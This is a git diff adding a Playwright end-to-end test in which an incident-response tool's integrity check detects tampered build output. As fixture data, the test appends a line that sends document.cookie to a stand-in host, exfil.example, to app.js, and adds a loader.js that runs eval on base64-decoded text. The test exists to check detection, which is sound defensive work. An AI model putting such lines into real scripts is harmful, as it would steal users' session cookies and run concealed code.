@@ -1,3 +1,4 @@
+import fs from 'node:fs';
 import path from 'node:path';
 import type { Locator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -24,6 +25,7 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   await session.close();
+  fs.rmSync(work, { recursive: true, force: true });
 });
 
 /** The finding row of a package and advisory. */
@@ -103,6 +105,43 @@ describe('the Supply chain tab', () => {
 
     await page.getByRole('tab', { name: 'Response' }).click();
     await expect.poll(async () => (await page.getByRole('list', { name: 'Timeline' }).textContent()) ?? '').toMatch(/lodahs|suspicio/i);
+    expect(pageErrors).toEqual([]);
+  });
+});
+
+describe('the Supply chain tab from the palette', () => {
+  it('checks a folder against its baseline: the tampered file first, with both hashes', async () => {
+    const { body } = await apiCall(served, 'incident.declare', { title: 'Build output differs from the release', severity: 'P1', scenario: 'sbom-integrity-violation' });
+    const id = body.value.id as string;
+    const dist = path.join(work, 'dist');
+    fs.mkdirSync(dist, { recursive: true });
+    fs.writeFileSync(path.join(dist, 'app.js'), 'console.log("shop");\n');
+    fs.writeFileSync(path.join(dist, 'README.txt'), 'release 2.3.0\n');
+    const baseline = path.join(work, 'dist-baseline.json');
+    expect((await apiCall(served, 'integrity.snapshot', { dir: dist, output: baseline })).body.ok).toBe(true);
+    fs.writeFileSync(path.join(dist, 'app.js'), 'console.log("shop");fetch("https://exfil.example/"+document.cookie);\n');
+    fs.writeFileSync(path.join(dist, 'loader.js'), 'eval(atob("..."));\n');
+
+    await page.evaluate((incident) => (location.hash = `#/incident/${incident}`), id);
+    await page.getByRole('region', { name: 'Checklist' }).waitFor();
+    await page.keyboard.press('Control+k');
+    const palette = page.getByRole('dialog', { name: 'Command palette' });
+    await palette.getByRole('option', { name: /^Go to Supply chain/ }).click();
+    const supply = page.getByRole('region', { name: 'Supply chain' });
+    await supply.waitFor();
+    // The checks are a radio group: the arrows move between them, as between the incident's tabs.
+    await supply.getByRole('radio', { name: 'Dependency audit' }).focus();
+    await page.keyboard.press('ArrowRight');
+    await page.keyboard.press('ArrowRight');
+    expect(await supply.getByRole('radio', { name: 'Integrity' }).getAttribute('aria-checked')).toBe('true');
+    await supply.getByLabel('Folder to check').fill(dist);
+    await supply.getByLabel(/^Baseline \(from firebreak integrity snapshot\)/).fill(baseline);
+    await supply.getByRole('button', { name: 'Check integrity' }).click();
+    const result = supply.getByRole('region', { name: 'Integrity result' });
+    await result.getByText('2 files differ from the baseline').waitFor();
+    const rows = result.getByRole('table', { name: 'Files that differ' }).locator('tbody tr.supply-row');
+    expect(await rows.allTextContents()).toEqual([expect.stringMatching(/^changedapp\.js[0-9a-f]{12}… → [0-9a-f]{12}…$/), expect.stringMatching(/^addedloader\.js[0-9a-f]{12}…$/)]);
+    await shots('integrity', supply.getByRole('region', { name: 'Check result' }));
     expect(pageErrors).toEqual([]);
   });
 });
